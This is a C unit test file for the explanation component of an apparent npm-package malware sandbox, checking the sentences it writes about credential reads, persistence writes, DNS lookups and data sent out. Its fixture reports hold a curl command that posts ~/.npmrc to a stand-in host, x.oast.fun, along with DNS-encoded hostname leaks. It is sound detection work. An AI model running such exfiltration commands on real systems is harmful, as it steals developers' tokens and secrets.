/* Explanations name the evidence behind a feature. */
#include <stdarg.h>
#include <stddef.h>
#include <setjmp.h>
#include <stdint.h>
#include <stdlib.h>
#include <string.h>
#include <cmocka.h>
#include <jansson.h>

#include "explain/explain.h"
#include "features/features.h"

static const char REPORT[] =
	"{\"schema\":\"snare.report/1\",\"package\":{\"name\":\"evil\",\"version\":\"1.0.0\"},"
	"\"environment\":{\"home\":\"/home/alex\",\"user\":\"alex\",\"hostname\":\"h\"},"
	"\"phases\":[{\"name\":\"install\",\"status\":\"ok\","
	"\"commands\":[{\"path\":\"/usr/bin/curl\",\"argv\":[\"curl\",\"-d\",\"@/home/alex/.npmrc\",\"x.oast.fun\"],\"result\":0}],"
	"\"files\":[{\"path\":\"/home/alex/.npmrc\",\"flags\":[\"read\"],\"failed\":[]},"
	"{\"path\":\"/home/alex/.bashrc\",\"flags\":[\"write\"],\"failed\":[]}],"
	"\"dns\":[{\"hostname\":\"x.oast.fun\",\"types\":[\"A\"]}],"
	"\"sockets\":[{\"syscall\":\"connect\",\"address\":\"198.18.0.1\",\"port\":443,\"hostnames\":[\"x.oast.fun\"]}],"
	"\"sent\":[{\"hostname\":\"x.oast.fun\",\"address\":\"198.18.0.1\",\"port\":443,\"size\":120,\"kind\":\"tls\"}],"
	"\"canary_hits\":[{\"canary\":\"npm_token\",\"where\":\"sent\",\"encoding\":\"base64\",\"hostname\":\"x.oast.fun\",\"port\":443}],"
	"\"signals\":[],\"denied\":[],\"timeline\":[]},"
	"{\"name\":\"execute\",\"status\":\"ok\",\"commands\":[],\"files\":[],\"dns\":[],\"sockets\":[],\"sent\":[],"
	"\"canary_hits\":[{\"canary\":\"wallet_seed\",\"where\":\"sent\",\"encoding\":\"plain\",\"hostname\":\"rpc.w.test\",\"port\":80,"
	"\"call\":\"Wallet.fromSecret()\"}],\"signals\":[],\"denied\":[],\"timeline\":[]}]}";

static json_t *report;

static int setup(void **state)
{
	json_error_t je;
	(void)state;
	report = json_loads(REPORT, 0, &je);
	return report ? 0 : -1;
}

static int teardown(void **state)
{
	(void)state;
	json_decref(report);
	return 0;
}

static void check(const char *feature, const char *want)
{
	char *got = explain_feature(report, feature, 1);
	assert_string_equal(got, want);
	free(got);
}

static void test_canary(void **state)
{
	(void)state;
	check("install.canary_cred", "sends npm_token (base64) to x.oast.fun:443 [install]");
	/* the execute phase names the call that did it */
	check("execute.canary_wallet",
	      "sends wallet_seed (plain) to rpc.w.test:80 (execute: Wallet.fromSecret()) [execute]");
}

static void test_reads_then_contacts(void **state)
{
	(void)state;
	check("install.net_after_read", "reads ~/.npmrc, then contacts x.oast.fun:443 [install]");
	check("install.read_cred", "reads ~/.npmrc [install]");
}

static void test_writes_and_dns(void **state)
{
	(void)state;
	check("install.write_persist", "writes ~/.bashrc [install]");
	check("install.dns_service", "looks up x.oast.fun [install]");
	check("install.conn_count", "connects to x.oast.fun:443 [install]");
	check("install.conn_hosts", "connects to x.oast.fun:443 [install]");
}

static void test_baseline(void **state)
{
	(void)state;
	char *got = explain_feature(report, "n_commands", 1);
	assert_string_equal(got, "runs 1 commands: curl");
	free(got);
}

static void test_verdict_direction(void **state)
{
	size_t n = features_count();
	float *x = calloc(n, sizeof(float)), *c = calloc(n + 1, sizeof(float));
	(void)state;
	c[features_index("install.canary_cred")] = 3.0f;
	x[features_index("install.canary_cred")] = 1;
	x[features_index("install.dns_service")] = 1;
	x[features_index("n_commands")] = 1;
	c[features_index("install.dns_service")] = 1.0f;
	c[features_index("n_commands")] = -0.5f;
	json_t *v = explain_verdict(report, x, c, 0.98f, 0.5, 5);
	assert_string_equal(json_string_value(json_object_get(v, "label")), "malicious");
	json_t *ex = json_object_get(v, "explanations");
	assert_int_equal(json_array_size(ex), 2); /* only contributions toward the verdict */
	assert_string_equal(json_string_value(json_object_get(json_array_get(ex, 0), "feature")),
			    "install.canary_cred");
	json_decref(v);
	free(x);
	free(c);
}

/* Reports written with ' for ". */
static json_t *load(const char *text)
{
	char *s = strdup(text);
	json_error_t je;
	json_t *r;

	for (char *p = s; *p; p++)
		if (*p == '\'')
			*p = '"';
	r = json_loads(s, 0, &je);
	free(s);
	assert_non_null(r);
	return r;
}

static void summary_is(const char *text, bool malicious, const char *want)
{
	json_t *r = load(text);
	char *got = explain_summary(r, malicious);

	if (want) {
		assert_non_null(got);
		assert_string_equal(got, want);
	} else {
		assert_null(got);
	}
	free(got);
	json_decref(r);
}

#define HEAD                                                                                       \
	"{'schema':'snare.report/1','package':{'name':'evil','version':'1.0.0'},"                  \
	"'environment':{'home':'/home/alex','user':'alex','hostname':'alex-xps'},"                 \
	"'canaries':[{'name':'npm_token','where':'~/.npmrc, NPM_TOKEN','value':'npm_abcdefgh'}],"

/* The rows about what leaves and where it goes. */
static void test_leak_rows(void **state)
{
	(void)state;
	check("install.exfil_chain",
	      "sends npm_token (base64) to x.oast.fun:443 (an OAST, webhook or paste service) "
	      "[install]");
	check("install.dest_service",
	      "contacts 1 OAST, webhook, paste or tunnel host(s): x.oast.fun [install]");
}

/* A malicious verdict leads with what was taken and where it went. */
static void test_summary_chain(void **state)
{
	(void)state;
	summary_is(
		HEAD
		"'phases':[{'name':'install','status':'ok',"
		"'steps':[{'package':'evil','script':'postinstall','command':'node lib/postinstall.js','target':true}],"
		"'files':[{'path':'/home/alex/.npmrc','flags':['read'],'failed':[]}],"
		"'sent':[{'hostname':'x.oast.fun','port':443,'pid':5,'package':'evil','script':'postinstall'}],"
		"'canary_hits':[{'canary':'npm_token','where':'sent','encoding':'base64','hostname':'x.oast.fun','port':443,'pid':5}]}]}",
		true,
		"reads ~/.npmrc, then sends its npm_token (base64) to x.oast.fun:443 (an OAST, "
		"webhook or paste service) [install, postinstall.js]");
	/* identity in DNS names, to a host unrelated to the package; no step
	 * file, no "reads" when the report names no source */
	summary_is(
		HEAD
		"'phases':[{'name':'import','status':'ok',"
		"'steps':[{'package':'evil','script':'import','command':'node index.js','target':true}],"
		"'dns':[{'hostname':'616c65782d787073.7.d.exfil.test','pid':7,'package':'evil','script':'import'}]}]}",
		true,
		"sends the host name (hex) in DNS names under d.exfil.test [import, index.js]");
	/* the same to the package's own homepage is no chain: today's order */
	summary_is(
		HEAD
		"'static':{'meta_hosts':['exfil.test']},'phases':[{'name':'import','status':'ok',"
		"'dns':[{'hostname':'616c65782d787073.7.d.exfil.test','package':'evil'}]}]}",
		true, NULL);
	/* a dependency's leak is not the package's chain */
	summary_is(
		HEAD
		"'phases':[{'name':'install','status':'ok',"
		"'steps':[{'package':'dep','script':'postinstall','command':'node x.js','target':false}],"
		"'sent':[{'hostname':'x.oast.fun','port':443,'pid':5,'package':'dep','script':'postinstall',"
		"'data_base64':'YWxleC14cHM='}]}]}",
		true, NULL);
}

/* A benign verdict with network activity says why it is benign. */
static void test_summary_benign(void **state)
{
	(void)state;
	summary_is(
		HEAD
		"'static':{'meta_hosts':['github.com']},'phases':[{'name':'install','status':'ok',"
		"'steps':[{'package':'esbuild','script':'postinstall','command':'node install.js','target':false},"
		"{'package':'evil','script':'install','command':'node dl.js','target':true}],"
		"'files':[{'path':'/home/alex/projects/app/node_modules/evil/bin/tool','flags':['write','create','chmod'],'failed':[]}],"
		"'dns':[{'hostname':'registry.npmjs.org','pid':3,'package':'esbuild','script':'postinstall'}],"
		"'sent':[{'hostname':'github.com','port':443,'pid':9,'package':'evil','script':'install',"
		"'requests':[{'method':'GET','target':'/o/r/releases/download/v1/tool'}]}]}]}",
		false,
		"downloads a binary from github.com, related to the package's homepage or "
		"repository; nothing identifying sent; a dependency (esbuild) runs its postinstall "
		"'node install.js', which contacts registry.npmjs.org (not the package's own code)");
	/* the row's own sentence */
	json_t *r = load(
		HEAD
		"'phases':[{'name':'install','status':'ok',"
		"'steps':[{'package':'esbuild','script':'postinstall','command':'node install.js','target':false}],"
		"'dns':[{'hostname':'registry.npmjs.org','pid':3,'package':'esbuild','script':'postinstall'}]}]}");
	char *got = explain_feature(r, "dep_install_net", 1);
	assert_string_equal(got, "1 dependency install step(s) use the network, not the package's "
				 "own code: a dependency (esbuild) runs its postinstall 'node "
				 "install.js', which contacts registry.npmjs.org");
	free(got);
	json_decref(r);
	summary_is(
		HEAD
		"'phases':[{'name':'execute','status':'ok',"
		"'sockets':[{'syscall':'connect','family':'ipv4','address':'104.16.0.1','port':443,'hostnames':['registry.npmjs.org'],'package':'evil'}]}]}",
		false,
		"contacts registry.npmjs.org, a well-known package or binary host; nothing identifying sent");
	/* nothing notable: no line */
	summary_is(HEAD "'phases':[{'name':'execute','status':'ok','sockets':["
			"{'syscall':'connect','family':'unix','path':'/var/run/nscd/socket'}]}]}",
		   false, NULL);
}

/* The verdict carries the line. */
static void test_verdict_summary(void **state)
{
	size_t n = features_count();
	float *x = calloc(n, sizeof(float)), *c = calloc(n + 1, sizeof(float));
	json_t *v;
	(void)state;
	x[features_index("install.canary_cred")] = 1;
	c[features_index("install.canary_cred")] = 3.0f;
	v = explain_verdict(report, x, c, 0.98f, 0.5, 5);
	assert_string_equal(json_string_value(json_object_get(v, "summary")),
			    "sends npm_token (base64) to x.oast.fun:443 (an OAST, webhook or paste "
			    "service) [install]");
	json_decref(v);
	free(x);
	free(c);
}

int main(void)
{
	const struct CMUnitTest tests[] = {
		cmocka_unit_test(test_canary),
		cmocka_unit_test(test_reads_then_contacts),
		cmocka_unit_test(test_writes_and_dns),
		cmocka_unit_test(test_baseline),
		cmocka_unit_test(test_verdict_direction),
		cmocka_unit_test(test_leak_rows),
		cmocka_unit_test(test_summary_chain),
		cmocka_unit_test(test_summary_benign),
		cmocka_unit_test(test_verdict_summary),
	};
	return cmocka_run_group_tests(tests, setup, teardown);
}
